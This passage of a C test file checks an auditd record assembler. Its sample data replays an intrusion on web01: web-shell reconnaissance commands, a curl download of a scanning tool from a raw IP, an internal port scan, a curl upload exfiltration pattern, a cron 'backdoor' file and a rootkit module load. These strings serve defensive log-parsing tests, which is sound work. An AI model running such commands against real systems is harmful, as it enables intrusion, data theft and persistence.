#include "trl_test.h"

#include "formats/audit_assembler.h"
#include "formats/parse.h"

#define MS (1000000LL)

static struct trl_arena *in_arena;  /* records, reset like a batch arena */
static struct trl_arena *out_arena; /* assembled events */

static int setup(void **state)
{
    (void)state;
    in_arena = trl_arena_create(0);
    out_arena = trl_arena_create(0);
    return 0;
}

static int teardown(void **state)
{
    (void)state;
    trl_arena_destroy(in_arena);
    trl_arena_destroy(out_arena);
    return 0;
}

static struct trl_event *record(const char *line, int64_t received_ns)
{
    struct trl_event *ev = trl_event_create(in_arena, line, strlen(line), received_ns);
    int rc = trl_parse_audit(ev, ev->original, ev->original_len);
    assert_true(rc == TRL_OK || rc == TRL_EINVAL);
    return ev;
}

static void add(struct trl_audit_assembler *a, const char *line, int64_t received_ns)
{
    assert_int_equal(trl_audit_assembler_add(a, record(line, received_ns)), TRL_OK);
}

static const char *array(const struct trl_event *ev, enum trl_field f)
{
    static char buf[2048];
    size_t n = 0;
    buf[0] = '\0';
    for (uint32_t i = 0; i < ev->nfields; i++) {
        const struct trl_kv *kv = &ev->fields[i];
        if (kv->field == f)
            n += (size_t)snprintf(buf + n, sizeof(buf) - n, "%s%.*s", n ? "|" : "",
                                  (int)kv->val_len, kv->val);
    }
    return buf;
}

static const char *named(const struct trl_event *ev, const char *name)
{
    static char buf[512];
    size_t len;
    const char *v = trl_event_get_named(ev, name, strlen(name), &len);
    if (!v)
        return "(absent)";
    snprintf(buf, sizeof(buf), "%.*s", (int)len, v);
    return buf;
}

static bool field_contains(const struct trl_event *ev, enum trl_field f, const char *needle)
{
    size_t len;
    const char *v = trl_event_get(ev, f, &len);
    return v && trl_memstr(v, len, needle) != NULL;
}

/* --- the web01 intrusion sample ----------------------------------------------------------------
 */

struct sample {
    struct trl_event *events[64];
    size_t nevents;
    struct trl_event *single[16]; /* records the assembler does not want */
    size_t nsingle;
};

/* Feeds every line of web01-audit.log through parser and assembler the way the pipeline does,
 * resetting the record arena after each "batch" of 5 lines. */
static bool load_web01(struct sample *s)
{
    const char *shared = trl_test_shared_dir();
    if (!shared)
        return false;
    char path[1024];
    snprintf(path, sizeof(path), "%s/data/linux-samples/web01-audit.log", shared);
    FILE *f = fopen(path, "r");
    if (!f)
        return false;
    memset(s, 0, sizeof(*s));
    struct trl_audit_assembler *a = trl_audit_assembler_create(NULL);
    char line[8192];
    int n = 0;
    while (fgets(line, sizeof(line), f)) {
        struct trl_event *ev = record(line, n * MS);
        if (trl_audit_assembler_wants(ev)) {
            assert_int_equal(trl_audit_assembler_add(a, ev), TRL_OK);
        } else {
            /* Standalone records outlive this batch only as copies in the output arena. */
            struct trl_event *copy =
                trl_event_create(out_arena, ev->original, ev->original_len, ev->received_ns);
            assert_int_equal(trl_parse_audit(copy, copy->original, copy->original_len), TRL_OK);
            s->single[s->nsingle++] = copy;
        }
        if (++n % 5 == 0) {
            s->nevents += trl_audit_assembler_take(a, out_arena, n * MS, false,
                                                   s->events + s->nevents, 64 - s->nevents);
            trl_arena_reset(in_arena);
        }
    }
    fclose(f);
    s->nevents += trl_audit_assembler_take(a, out_arena, n * MS, true, s->events + s->nevents,
                                           64 - s->nevents);
    struct trl_audit_assembler_stats st;
    trl_audit_assembler_get_stats(a, &st);
    assert_int_equal(st.records, 77);
    assert_int_equal(st.pending, 0);
    assert_int_equal(st.evicted, 0);
    trl_audit_assembler_destroy(a);
    return true;
}

static struct trl_event *by_serial(struct sample *s, const char *serial)
{
    for (size_t i = 0; i < s->nevents; i++) {
        if (trl_event_is(s->events[i], TRL_F_AUDITD_SEQUENCE, serial))
            return s->events[i];
    }
    fail_msg("no event with serial %s", serial);
    return NULL;
}

static void test_assembler_web01_one_event_per_serial(void **state)
{
    (void)state;
    struct sample s;
    if (!load_web01(&s))
        skip();
    /* 8801..8810 and 8813 are execve events of 7 records each; 8811/8812 are sshd's own. */
    assert_int_equal(s.nevents, 11);
    assert_int_equal(s.nsingle, 2);
    for (size_t i = 0; i < s.nevents; i++) {
        const struct trl_event *ev = s.events[i];
        size_t lines = 1;
        for (size_t k = 0; k < ev->original_len; k++)
            lines += ev->original[k] == '\n';
        assert_int_equal(lines, 7);
        assert_string_equal(ev->format, "audit");
        assert_field(ev, TRL_F_AUDITD_RECORD_TYPE, "SYSCALL");
        assert_field(ev, TRL_F_EVENT_ACTION, "executed");
    }
    /* Completed in the order their EOE arrived. */
    assert_field(s.events[0], TRL_F_AUDITD_SEQUENCE, "8801");
    assert_field(s.events[10], TRL_F_AUDITD_SEQUENCE, "8813");
}

static void test_assembler_web01_web_shell_exec(void **state)
{
    (void)state;
    struct sample s;
    if (!load_web01(&s))
        skip();
    const struct trl_event *ev = by_serial(&s, "8801");
    assert_true(ev->timestamp_ns == 1720563243412000000LL);
    assert_field(ev, TRL_F_PROCESS_PARENT_PID, "1187");
    assert_field(ev, TRL_F_PROCESS_PID, "24001");
    assert_field(ev, TRL_F_PROCESS_EXECUTABLE, "/usr/bin/dash");
    assert_field(ev, TRL_F_PROCESS_NAME, "sh");
    assert_string_equal(array(ev, TRL_F_PROCESS_ARGS), "sh|-c|id");
    assert_field(ev, TRL_F_PROCESS_ARGS_COUNT, "3");
    assert_field(ev, TRL_F_PROCESS_COMMAND_LINE, "sh -c id");
    assert_field(ev, TRL_F_PROCESS_TITLE, "sh -c id");
    assert_field(ev, TRL_F_PROCESS_WORKING_DIRECTORY, "/var/www/html/uploads/img");
    assert_field(ev, TRL_F_USER_ID, "33");
    assert_field(ev, TRL_F_AUDITD_AUID, "4294967295");
    assert_field(ev, TRL_F_AUDITD_KEY, "exec");
    assert_field(ev, TRL_F_AUDITD_SYSCALL, "execve");
    assert_field(ev, TRL_F_EVENT_KIND, "event");
    assert_string_equal(array(ev, TRL_F_EVENT_CATEGORY), "process");
    assert_string_equal(array(ev, TRL_F_EVENT_TYPE), "start");
    assert_field(ev, TRL_F_EVENT_OUTCOME, "success");
    /* The program and the loader are not "the file" of an exec; both stay as path items. */
    assert_field(ev, TRL_F_FILE_PATH, NULL);
    assert_string_equal(named(ev, "auditd.paths.0.name"), "/usr/bin/dash");
    assert_string_equal(named(ev, "auditd.paths.1.name"), "/lib64/ld-linux-x86-64.so.2");
    assert_string_equal(named(ev, "auditd.paths.1.nametype"), "NORMAL");
    /* aN are the program's arguments (as auditd rules expect), not SYSCALL's registers. */
    assert_string_equal(named(ev, "auditd.data.a0"), "sh");
    assert_string_equal(named(ev, "auditd.data.a2"), "id");
    assert_string_equal(named(ev, "auditd.data.a3"), "(absent)");
    assert_string_equal(named(ev, "auditd.data.argc"), "(absent)");
    static const char *const types[] = {"SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE", "EOE"};
    size_t ntypes = 0;
    for (uint32_t i = 0; i < ev->nfields; i++) {
        if (ev->fields[i].field != TRL_F_AUDITD_RECORD_TYPES)
            continue;
        assert_true(ntypes < 6);
        assert_string_equal(ev->fields[i].val, types[ntypes]);
        ntypes++;
    }
    assert_int_equal(ntypes, 6);
    assert_string_equal(named(ev, "auditd.data.proctitle"), "sh -c id");
    assert_true(trl_starts_with(ev->original, ev->original_len, "type=SYSCALL msg=audit("));

    size_t web_shell = 0;
    for (size_t i = 0; i < s.nevents; i++)
        web_shell += trl_event_is(s.events[i], TRL_F_PROCESS_PARENT_PID, "1187");
    assert_int_equal(web_shell, 8);

    ev = by_serial(&s, "8804");
    assert_field(ev, TRL_F_PROCESS_COMMAND_LINE,
                 "sh -c \"uname -a; ip -4 addr; cat /etc/os-release\"");
    assert_string_equal(array(ev, TRL_F_PROCESS_ARGS),
                        "sh|-c|uname -a; ip -4 addr; cat /etc/os-release");
}

static void test_assembler_web01_curl_scan_and_exfil(void **state)
{
    (void)state;
    struct sample s;
    if (!load_web01(&s))
        skip();
    size_t raw_ip_curl = 0;
    for (size_t i = 0; i < s.nevents; i++)
        raw_ip_curl += field_contains(s.events[i], TRL_F_PROCESS_COMMAND_LINE,
                                      "curl -s -o /tmp/.x/fscan http://198.51.100.77/f");
    assert_int_equal(raw_ip_curl, 2);

    const struct trl_event *ev = by_serial(&s, "8808");
    assert_field(ev, TRL_F_PROCESS_EXECUTABLE, "/usr/bin/curl");
    assert_field(ev, TRL_F_PROCESS_PARENT_PID, "24050");
    assert_string_equal(array(ev, TRL_F_PROCESS_ARGS),
                        "curl|-s|-o|/tmp/.x/fscan|http://198.51.100.77/f");
    assert_field(ev, TRL_F_PROCESS_ARGS_COUNT, "5");

    ev = by_serial(&s, "8810");
    assert_field(ev, TRL_F_PROCESS_EXECUTABLE, "/tmp/.x/fscan");
    assert_field(ev, TRL_F_PROCESS_COMMAND_LINE,
                 "/tmp/.x/fscan -h 10.20.2.0/24 -p 22,445,1433,3389 -nobr");

    size_t exfil = 0;
    for (size_t i = 0; i < s.nevents; i++)
        exfil += field_contains(s.events[i], TRL_F_PROCESS_COMMAND_LINE, "curl -s -T ");
    assert_int_equal(exfil, 1);

    size_t failures = 0;
    for (size_t i = 0; i < s.nsingle; i++) {
        const struct trl_event *u = s.single[i];
        failures += trl_event_is(u, TRL_F_EVENT_OUTCOME, "failure") &&
                    trl_event_is(u, TRL_F_PROCESS_EXECUTABLE, "/usr/sbin/sshd") &&
                    trl_event_is(u, TRL_F_SOURCE_IP, "203.0.113.45");
    }
    assert_int_equal(failures, 2);
}

/* --- completion rules ------------------------------------------------------------------------ */

static void test_assembler_eoe_completes_at_once(void **state)
{
    (void)state;
    struct trl_audit_assembler *a = trl_audit_assembler_create(NULL);
    struct trl_event *out[4];
    add(a, "type=SYSCALL msg=audit(10.000:1): arch=c000003e syscall=59 pid=2 ppid=1", 0);
    add(a, "type=EXECVE msg=audit(10.000:1): argc=1 a0=\"ls\"", 0);
    assert_false(trl_audit_assembler_ready(a, 0));
    assert_int_equal(trl_audit_assembler_take(a, out_arena, 0, false, out, 4), 0);
    add(a, "type=EOE msg=audit(10.000:1): ", 0);
    assert_true(trl_audit_assembler_ready(a, 0));
    assert_int_equal(trl_audit_assembler_take(a, out_arena, 0, false, out, 4), 1);
    assert_string_equal(array(out[0], TRL_F_PROCESS_ARGS), "ls");
    /* An EOE for an event already gone carries nothing: it is dropped and counted. */
    add(a, "type=EOE msg=audit(10.000:1): ", 0);
    struct trl_audit_assembler_stats st;
    trl_audit_assembler_get_stats(a, &st);
    assert_int_equal(st.orphans, 1);
    assert_int_equal(st.events, 1);
    assert_int_equal(trl_audit_assembler_take(a, out_arena, 0, true, out, 4), 0);
    trl_audit_assembler_destroy(a);
}

static void test_assembler_timeout_completes_event_without_eoe(void **state)
{
    (void)state;
    struct trl_audit_assembler_config cfg = {.timeout_ns = 500 * MS, .settle_ns = 50 * MS};
    struct trl_audit_assembler *a = trl_audit_assembler_create(&cfg);
    struct trl_event *out[4];
    add(a, "type=AVC msg=audit(10.000:7): apparmor=\"DENIED\" operation=\"open\" pid=5", 1000 * MS);
    assert_int_equal(trl_audit_assembler_take(a, out_arena, 1499 * MS, false, out, 4), 0);
    assert_int_equal(trl_audit_assembler_take(a, out_arena, 1500 * MS, false, out, 4), 1);
    assert_field(out[0], TRL_F_AUDITD_RECORD_TYPE, "AVC");
    assert_string_equal(array(out[0], TRL_F_EVENT_TYPE), "denied");
    struct trl_audit_assembler_stats st;
    trl_audit_assembler_get_stats(a, &st);
    assert_int_equal(st.timed_out, 1);
    trl_audit_assembler_destroy(a);
}

static void test_assembler_later_serial_from_same_host_completes_after_settle(void **state)
{
    (void)state;
    struct trl_audit_assembler_config cfg = {.timeout_ns = 10000 * MS, .settle_ns = 100 * MS};
    struct trl_audit_assembler *a = trl_audit_assembler_create(&cfg);
    struct trl_event *out[4];
    add(a, "node=a type=SYSCALL msg=audit(10.000:1): syscall=2 pid=1", 0);
    /* Soon after, another serial: event 1 may still get records (interleaving). */
    add(a, "node=a type=SYSCALL msg=audit(10.001:2): syscall=2 pid=2", 50 * MS);
    assert_int_equal(trl_audit_assembler_take(a, out_arena, 60 * MS, false, out, 4), 0);
    add(a, "node=a type=CWD msg=audit(10.000:1): cwd=\"/one\"", 60 * MS);
    /* Another host's records never complete events of host a. */
    add(a, "node=b type=SYSCALL msg=audit(10.002:3): syscall=2 pid=3", 500 * MS);
    assert_int_equal(trl_audit_assembler_take(a, out_arena, 500 * MS, false, out, 4), 0);
    /* A later serial from host a after event 1 has been quiet for settle_ns. */
    add(a, "node=a type=SYSCALL msg=audit(10.003:4): syscall=2 pid=4", 600 * MS);
    assert_int_equal(trl_audit_assembler_take(a, out_arena, 600 * MS, false, out, 4), 2);
    assert_field(out[0], TRL_F_AUDITD_SEQUENCE, "2");
    assert_field(out[1], TRL_F_AUDITD_SEQUENCE, "1");
    assert_field(out[1], TRL_F_PROCESS_WORKING_DIRECTORY, "/one");
    assert_field(out[1], TRL_F_HOST_NAME, "a");
    assert_int_equal(trl_audit_assembler_take(a, out_arena, 600 * MS, true, out, 4), 2);
    trl_audit_assembler_destroy(a);
}

static void test_assembler_quiet_input_completes_pending_events(void **state)
{
    (void)state;
    struct trl_audit_assembler_config cfg = {.timeout_ns = 2000 * MS, .settle_ns = 100 * MS};
    struct trl_audit_assembler *a = trl_audit_assembler_create(&cfg);
    struct trl_event *out[4];
    assert_true(trl_audit_assembler_quiet_at(a) == INT64_MAX);
    /* The last records of a stream: a SYSCALL with items=1 whose PATH never comes, from two hosts.
     */
    add(a, "node=a type=SYSCALL msg=audit(10.000:1): syscall=59 items=1 pid=1", 1000 * MS);
    add(a, "node=b type=SYSCALL msg=audit(10.000:2): syscall=59 items=1 pid=2", 1030 * MS);
    /* Quiet from the last record on, whatever host it came from. */
    assert_true(trl_audit_assembler_quiet_at(a) == 1130 * MS);
    int64_t at = trl_audit_assembler_quiet_at(a);
    /* A record that arrives after the silence began (from a third host, so that no other rule
     * completes anything) stays pending: it starts a new event. */
    add(a, "node=c type=SYSCALL msg=audit(10.200:3): syscall=59 items=1 pid=3", 1140 * MS);
    trl_audit_assembler_complete_quiet(a, at);
    assert_int_equal(trl_audit_assembler_take(a, out_arena, 1140 * MS, false, out, 4), 2);
    assert_field(out[0], TRL_F_AUDITD_SEQUENCE, "1");
    assert_field(out[1], TRL_F_AUDITD_SEQUENCE, "2");
    assert_true(trl_audit_assembler_quiet_at(a) == 1240 * MS);
    struct trl_audit_assembler_stats st;
    trl_audit_assembler_get_stats(a, &st);
    assert_int_equal(st.quiet, 2);
    assert_int_equal(st.timed_out, 0);
    assert_int_equal(st.pending, 1);
    trl_audit_assembler_complete_quiet(a, trl_audit_assembler_quiet_at(a));
    assert_int_equal(trl_audit_assembler_take(a, out_arena, 1240 * MS, false, out, 4), 1);
    assert_field(out[0], TRL_F_AUDITD_SEQUENCE, "3");
    assert_true(trl_audit_assembler_quiet_at(a) == INT64_MAX);
    trl_audit_assembler_destroy(a);
}

static void test_assembler_interleaved_events_and_hosts_stay_apart(void **state)
{
    (void)state;
    struct trl_audit_assembler *a = trl_audit_assembler_create(NULL);
    struct trl_event *out[4];
    add(a, "node=a type=SYSCALL msg=audit(10.000:5): arch=c000003e syscall=59 pid=10", 0);
    add(a, "node=b type=SYSCALL msg=audit(10.000:5): arch=c000003e syscall=59 pid=20", 0);
    add(a, "node=a type=SYSCALL msg=audit(10.000:6): arch=c000003e syscall=59 pid=11", 0);
    add(a, "node=b type=EXECVE msg=audit(10.000:5): argc=1 a0=\"b5\"", 0);
    add(a, "node=a type=EXECVE msg=audit(10.000:6): argc=1 a0=\"a6\"", 0);
    add(a, "node=a type=EXECVE msg=audit(10.000:5): argc=1 a0=\"a5\"", 0);
    add(a, "node=a type=EOE msg=audit(10.000:6): ", 0);
    add(a, "node=b type=EOE msg=audit(10.000:5): ", 0);
    add(a, "node=a type=EOE msg=audit(10.000:5): ", 0);
    assert_int_equal(trl_audit_assembler_take(a, out_arena, 0, false, out, 4), 3);
    assert_field(out[0], TRL_F_PROCESS_PID, "11");
    assert_string_equal(array(out[0], TRL_F_PROCESS_ARGS), "a6");
    assert_field(out[1], TRL_F_PROCESS_PID, "20");
    assert_string_equal(array(out[1], TRL_F_PROCESS_ARGS), "b5");
    assert_field(out[1], TRL_F_HOST_NAME, "b");
    assert_field(out[2], TRL_F_PROCESS_PID, "10");
    assert_string_equal(array(out[2], TRL_F_PROCESS_ARGS), "a5");
    trl_audit_assembler_destroy(a);
}

static void test_assembler_bounds_pending_events(void **state)
{
    (void)state;
    struct trl_audit_assembler_config cfg = {.max_pending = 4};
    struct trl_audit_assembler *a = trl_audit_assembler_create(&cfg);
    struct trl_event *out[8];
    for (int i = 1; i <= 5; i++) {
        char line[128];
        snprintf(line, sizeof(line), "type=SYSCALL msg=audit(10.000:%d): syscall=2 pid=%d", i, i);
        add(a, line, 0);
    }
    struct trl_audit_assembler_stats st;
    trl_audit_assembler_get_stats(a, &st);
    assert_int_equal(st.evicted, 1);
    assert_int_equal(st.pending, 4);
    assert_int_equal(trl_audit_assembler_take(a, out_arena, 0, false, out, 8), 1);
    assert_field(out[0], TRL_F_AUDITD_SEQUENCE, "1");
    /* take() hands out no more than asked for; the rest waits for the next call. */
    assert_int_equal(trl_audit_assembler_take(a, out_arena, 0, true, out, 3), 3);
    assert_int_equal(trl_audit_assembler_take(a, out_arena, 0, true, out, 3), 1);
    trl_audit_assembler_destroy(a);
}

static void test_assembler_bounds_records_per_event(void **state)
{
    (void)state;
    struct trl_audit_assembler *a = trl_audit_assembler_create(NULL);
    struct trl_event *out[8];
    for (int i = 0; i < 1100; i++)
        add(a, "type=PATH msg=audit(10.000:1): item=0 name=\"/x\" nametype=NORMAL", 0);
    assert_int_equal(trl_audit_assembler_take(a, out_arena, 0, true, out, 8), 3);
    trl_audit_assembler_destroy(a);
}

static void test_assembler_does_not_want_single_record_events(void **state)
{
    (void)state;
    struct trl_audit_assembler *a = trl_audit_assembler_create(NULL);
    struct trl_event *ev =
        record("type=USER_AUTH msg=audit(1.0:9): pid=1 msg='acct=\"x\" res=failed'", 0);
    assert_false(trl_audit_assembler_wants(ev));
    assert_int_equal(trl_audit_assembler_add(a, ev), TRL_EINVAL);
    ev = trl_event_create(in_arena, "hello", 5, 0);
    assert_false(trl_audit_assembler_wants(ev));
    assert_int_equal(trl_audit_assembler_add(a, ev), TRL_EINVAL);
    /* An event assembled already (an agent's, or Trapline's JSON read back) is whole. */
    ev = record("type=SYSCALL msg=audit(1.0:9): arch=c000003e syscall=59 pid=7", 0);
    assert_true(trl_audit_assembler_wants(ev));
    trl_event_add(ev, TRL_F_AUDITD_RECORD_TYPES, "SYSCALL", 7);
    assert_false(trl_audit_assembler_wants(ev));
    /* A record whose stamp could not be read has no serial to group by. */
    const char *bad = "type=PATH msg=audit(x): name=\"/a\"";
    ev = trl_event_create(in_arena, bad, strlen(bad), 0);
    assert_int_equal(trl_parse_audit(ev, ev->original, ev->original_len), TRL_EINVAL);
    assert_false(trl_audit_assembler_wants(ev));
    struct trl_audit_assembler_stats st;
    trl_audit_assembler_get_stats(a, &st);
    assert_int_equal(st.records, 0);
    trl_audit_assembler_destroy(a);
}

static void test_assembler_copies_records_out_of_their_arena(void **state)
{
    (void)state;
    struct trl_audit_assembler *a = trl_audit_assembler_create(NULL);
    struct trl_event *out[2];
    struct trl_arena *batch = trl_arena_create(0);
    const char *line = "type=SYSCALL msg=audit(10.000:1): arch=c000003e syscall=59 comm=\"sh\"";
    struct trl_event *ev = trl_event_create(batch, line, strlen(line), 0);
    trl_parse_audit(ev, ev->original, ev->original_len);
    trl_audit_assembler_add(a, ev);
    /* The batch is gone before the event completes: AddressSanitizer would see a stale pointer. */
    trl_arena_destroy(batch);
    assert_int_equal(trl_audit_assembler_take(a, out_arena, 0, true, out, 2), 1);
    assert_field(out[0], TRL_F_PROCESS_NAME, "sh");
    assert_string_equal(out[0]->original, line);
    /* Destroying with events pending or unclaimed frees them (LeakSanitizer checks). */
    add(a, "type=SYSCALL msg=audit(10.000:2): syscall=2", 0);
    add(a, "type=SYSCALL msg=audit(10.000:3): syscall=2", 0);
    add(a, "type=EOE msg=audit(10.000:3):", 0);
    trl_audit_assembler_destroy(a);
    trl_audit_assembler_destroy(NULL);
}

/* --- merged fields ---------------------------------------------------------------------------- */

static size_t assemble(const char *const *lines, size_t n, struct trl_event **out, size_t max)
{
    struct trl_audit_assembler *a = trl_audit_assembler_create(NULL);
    for (size_t i = 0; i < n; i++)
        add(a, lines[i], 0);
    size_t got = trl_audit_assembler_take(a, out_arena, 0, true, out, max);
    trl_audit_assembler_destroy(a);
    return got;
}

static void test_assembler_connect_to_raw_ip(void **state)
{
    (void)state;
    static const char *const lines[] = {
        "type=SYSCALL msg=audit(1720563612.020:8900): arch=c000003e syscall=42 success=no "
        "exit=-115 a0=5 a1=7ffd a2=10 a3=0 items=0 ppid=24050 pid=24052 auid=4294967295 uid=33 "
        "comm=\"curl\" exe=\"/usr/bin/curl\" key=\"net\"",
        "type=SOCKADDR msg=audit(1720563612.020:8900): saddr=02000050C63364140000000000000000",
        "type=PROCTITLE msg=audit(1720563612.020:8900): proctitle=6375726C",
        "type=EOE msg=audit(1720563612.020:8900):",
    };
    struct trl_event *out[2];
    assert_int_equal(assemble(lines, 4, out, 2), 1);
    struct trl_event *ev = out[0];
    assert_field(ev, TRL_F_DESTINATION_IP, "198.51.100.20");
    assert_field(ev, TRL_F_DESTINATION_PORT, "80");
    assert_string_equal(array(ev, TRL_F_EVENT_CATEGORY), "network");
    assert_string_equal(array(ev, TRL_F_EVENT_TYPE), "connection");
    assert_field(ev, TRL_F_EVENT_ACTION, "connected-to");
    /* EINPROGRESS of a non-blocking connect is success=no. */
    assert_field(ev, TRL_F_EVENT_OUTCOME, "failure");
    assert_field(ev, TRL_F_PROCESS_TITLE, "curl");
    assert_string_equal(array(ev, TRL_F_RELATED_IP), "198.51.100.20");
}

static void test_assembler_accept_sockaddr_is_the_source(void **state)
{
    (void)state;
    static const char *const lines[] = {
        "type=SYSCALL msg=audit(1.000:1): arch=c000003e syscall=43 success=yes pid=9",
        "type=SOCKADDR msg=audit(1.000:1): saddr=0200D431CB00712D0000000000000000",
        "type=EOE msg=audit(1.000:1):",
    };
    struct trl_event *out[2];
    assert_int_equal(assemble(lines, 3, out, 2), 1);
    assert_field(out[0], TRL_F_SOURCE_IP, "203.0.113.45");
    assert_field(out[0], TRL_F_SOURCE_PORT, "54321");
    assert_field(out[0], TRL_F_DESTINATION_IP, NULL);
    assert_field(out[0], TRL_F_EVENT_ACTION, "accepted-connection-from");
}

static void test_assembler_file_write_relative_path_and_created_file(void **state)
{
    (void)state;
    static const char *const lines[] = {
        "type=SYSCALL msg=audit(1.000:1): arch=c000003e syscall=257 success=yes exit=3 "
        "a0=ffffff9c a1=5581 a2=241 a3=1b6 items=2 ppid=1 pid=77 uid=0 comm=\"vi\" "
        "exe=\"/usr/bin/vim.basic\" key=\"cron\"",
        "type=CWD msg=audit(1.000:1): cwd=\"/etc/cron.d\"",
        "type=PATH msg=audit(1.000:1): item=0 name=\"/etc/cron.d\" inode=10 mode=040755 "
        "ouid=0 ogid=0 nametype=PARENT",
        "type=PATH msg=audit(1.000:1): item=1 name=\"backdoor\" inode=11 mode=0100644 ouid=0 "
        "ogid=0 nametype=CREATE",
        "type=EOE msg=audit(1.000:1):",
    };
    struct trl_event *out[2];
    assert_int_equal(assemble(lines, 5, out, 2), 1);
    struct trl_event *ev = out[0];
    assert_field(ev, TRL_F_FILE_PATH, "/etc/cron.d/backdoor");
    assert_field(ev, TRL_F_FILE_NAME, "backdoor");
    assert_field(ev, TRL_F_FILE_INODE, "11");
    assert_field(ev, TRL_F_FILE_MODE, "0644");
    assert_field(ev, TRL_F_EVENT_ACTION, "created-file");
    assert_string_equal(array(ev, TRL_F_EVENT_CATEGORY), "file");
    assert_string_equal(array(ev, TRL_F_EVENT_TYPE), "creation");
    assert_string_equal(named(ev, "auditd.paths.0.nametype"), "PARENT");
    assert_string_equal(named(ev, "auditd.paths.0.mode"), "040755");
    assert_field(ev, TRL_F_AUDITD_KEY, "cron");
    /* Without EXECVE the registers stay: a2 holds the open flags. */
    assert_string_equal(named(ev, "auditd.data.a2"), "241");
}

static void test_assembler_script_exec_names_the_script(void **state)
{
    (void)state;
    static const char *const lines[] = {
        "type=SYSCALL msg=audit(1.000:1): arch=c000003e syscall=59 success=yes ppid=1 pid=5 "
        "comm=\"x.sh\" exe=\"/usr/bin/bash\"",
        "type=EXECVE msg=audit(1.000:1): argc=2 a0=\"/bin/bash\" a1=\"./x.sh\"",
        "type=CWD msg=audit(1.000:1): cwd=\"/tmp\"",
        "type=PATH msg=audit(1.000:1): item=0 name=\"./x.sh\" nametype=NORMAL",
        "type=PATH msg=audit(1.000:1): item=1 name=\"/bin/bash\" nametype=NORMAL",
        "type=PATH msg=audit(1.000:1): item=2 name=\"/lib64/ld-linux-x86-64.so.2\" "
        "nametype=NORMAL",
        "type=EOE msg=audit(1.000:1):",
    };
    struct trl_event *out[2];
    assert_int_equal(assemble(lines, 7, out, 2), 1);
    assert_field(out[0], TRL_F_FILE_PATH, "/tmp/./x.sh");
    assert_field(out[0], TRL_F_EVENT_ACTION, "executed");
}

static void test_assembler_kernel_module_load(void **state)
{
    (void)state;
    static const char *const lines[] = {
        "type=SYSCALL msg=audit(1.000:1): arch=c000003e syscall=313 success=yes pid=5 uid=0 "
        "comm=\"insmod\" exe=\"/usr/bin/kmod\"\x1dUID=\"root\" AUID=\"svc_backup\"",
        "type=KERN_MODULE msg=audit(1.000:1): name=\"diamorphine\"",
        "type=EOE msg=audit(1.000:1):",
    };
    struct trl_event *out[2];
    assert_int_equal(assemble(lines, 3, out, 2), 1);
    struct trl_event *ev = out[0];
    assert_string_equal(array(ev, TRL_F_EVENT_CATEGORY), "driver");
    assert_field(ev, TRL_F_EVENT_ACTION, "loaded-kernel-module");
    assert_string_equal(named(ev, "auditd.data.name"), "diamorphine");
    assert_field(ev, TRL_F_USER_NAME, "root");
    assert_string_equal(named(ev, "user.audit.name"), "svc_backup");
    assert_field(ev, TRL_F_FILE_PATH, NULL);
}

static void test_assembler_execve_split_over_records(void **state)
{
    (void)state;
    static const char *const lines[] = {
        "type=SYSCALL msg=audit(1.000:1): arch=c000003e syscall=59 success=yes pid=5",
        "type=EXECVE msg=audit(1.000:1): argc=4 a0=\"tar\" a1_len=6 a1[0]=2D6366",
        "type=EXECVE msg=audit(1.000:1): a1[1]=7A2078 a2=\"out dir\" a3=\"\"",
        "type=EOE msg=audit(1.000:1):",
    };
    struct trl_event *out[2];
    assert_int_equal(assemble(lines, 4, out, 2), 1);
    assert_string_equal(array(out[0], TRL_F_PROCESS_ARGS), "tar|-cfz x|out dir|");
    assert_field(out[0], TRL_F_PROCESS_COMMAND_LINE, "tar \"-cfz x\" \"out dir\" \"\"");
    assert_field(out[0], TRL_F_PROCESS_ARGS_COUNT, "4");
}

static void test_assembler_syslog_records_keep_their_header(void **state)
{
    (void)state;
    struct trl_audit_assembler *a = trl_audit_assembler_create(NULL);
    static const char *const msgs[] = {
        "node=web01 type=SYSCALL msg=audit(1.000:1): arch=c000003e syscall=59 pid=5 comm=\"id\"",
        "node=web01 type=EOE msg=audit(1.000:1): ",
    };
    for (size_t i = 0; i < 2; i++) {
        char line[256];
        snprintf(line, sizeof(line), "<14>Jul  9 22:14:03 relay audispd: %s", msgs[i]);
        struct trl_event *ev = trl_event_create(in_arena, line, strlen(line), 0);
        ev->format = "rfc3164";
        trl_event_set_str(ev, TRL_F_LOG_SYSLOG_APPNAME, "audispd");
        trl_event_set_str(ev, TRL_F_PROCESS_NAME, "audispd");
        trl_event_set_str(ev, TRL_F_HOST_NAME, "relay");
        trl_event_set_str(ev, TRL_F_MESSAGE, msgs[i]);
        assert_int_equal(trl_parse_audit(ev, msgs[i], strlen(msgs[i])), TRL_OK);
        assert_int_equal(trl_audit_assembler_add(a, ev), TRL_OK);
    }
    struct trl_event *out[2];
    assert_int_equal(trl_audit_assembler_take(a, out_arena, 0, false, out, 2), 1);
    struct trl_event *ev = out[0];
    assert_string_equal(ev->format, "rfc3164");
    assert_field(ev, TRL_F_HOST_NAME, "web01");
    assert_field(ev, TRL_F_LOG_SYSLOG_APPNAME, "audispd");
    assert_field(ev, TRL_F_PROCESS_NAME, "id");
    assert_field(ev, TRL_F_MESSAGE, NULL);
    assert_non_null(strstr(ev->original, "relay audispd: node=web01 type=SYSCALL"));
    assert_non_null(
        strstr(ev->original, "\n<14>Jul  9 22:14:03 relay audispd: node=web01 type=EOE"));
    trl_audit_assembler_destroy(a);
}

/* A record of more fields than the copy's bookkeeping holds in one word (64), added from an arena
 * that is reset right after, as a batch's is: the merged event has every argument. */
static void test_assembler_long_records_from_reset_arenas(void **state)
{
    (void)state;
    struct trl_audit_assembler *a = trl_audit_assembler_create(NULL);
    struct trl_event *out[4];
    char line[4096];
    int n = snprintf(line, sizeof(line), "type=EXECVE msg=audit(10.000:7): argc=90");
    for (int i = 0; i < 90; i++)
        n += snprintf(line + n, sizeof(line) - (size_t)n, " a%d=\"arg%d\"", i, i);
    add(a,
        "type=SYSCALL msg=audit(10.000:7): arch=c000003e syscall=59 pid=2 ppid=1 "
        "comm=\"x\" exe=\"/bin/x\" key=\"exec\"",
        0);
    trl_arena_reset(in_arena);
    add(a, line, 0);
    trl_arena_reset(in_arena);
    add(a, "type=PROCTITLE msg=audit(10.000:7): proctitle=61726730006172673100", 0);
    trl_arena_reset(in_arena);
    add(a, "type=EOE msg=audit(10.000:7): ", 0);
    trl_arena_reset(in_arena);
    assert_int_equal(trl_audit_assembler_take(a, out_arena, 0, false, out, 4), 1);
    struct trl_event *ev = out[0];
    assert_field(ev, TRL_F_PROCESS_ARGS_COUNT, "90");
    char want[1024];
    int w = 0;
    for (int i = 0; i < 90; i++)
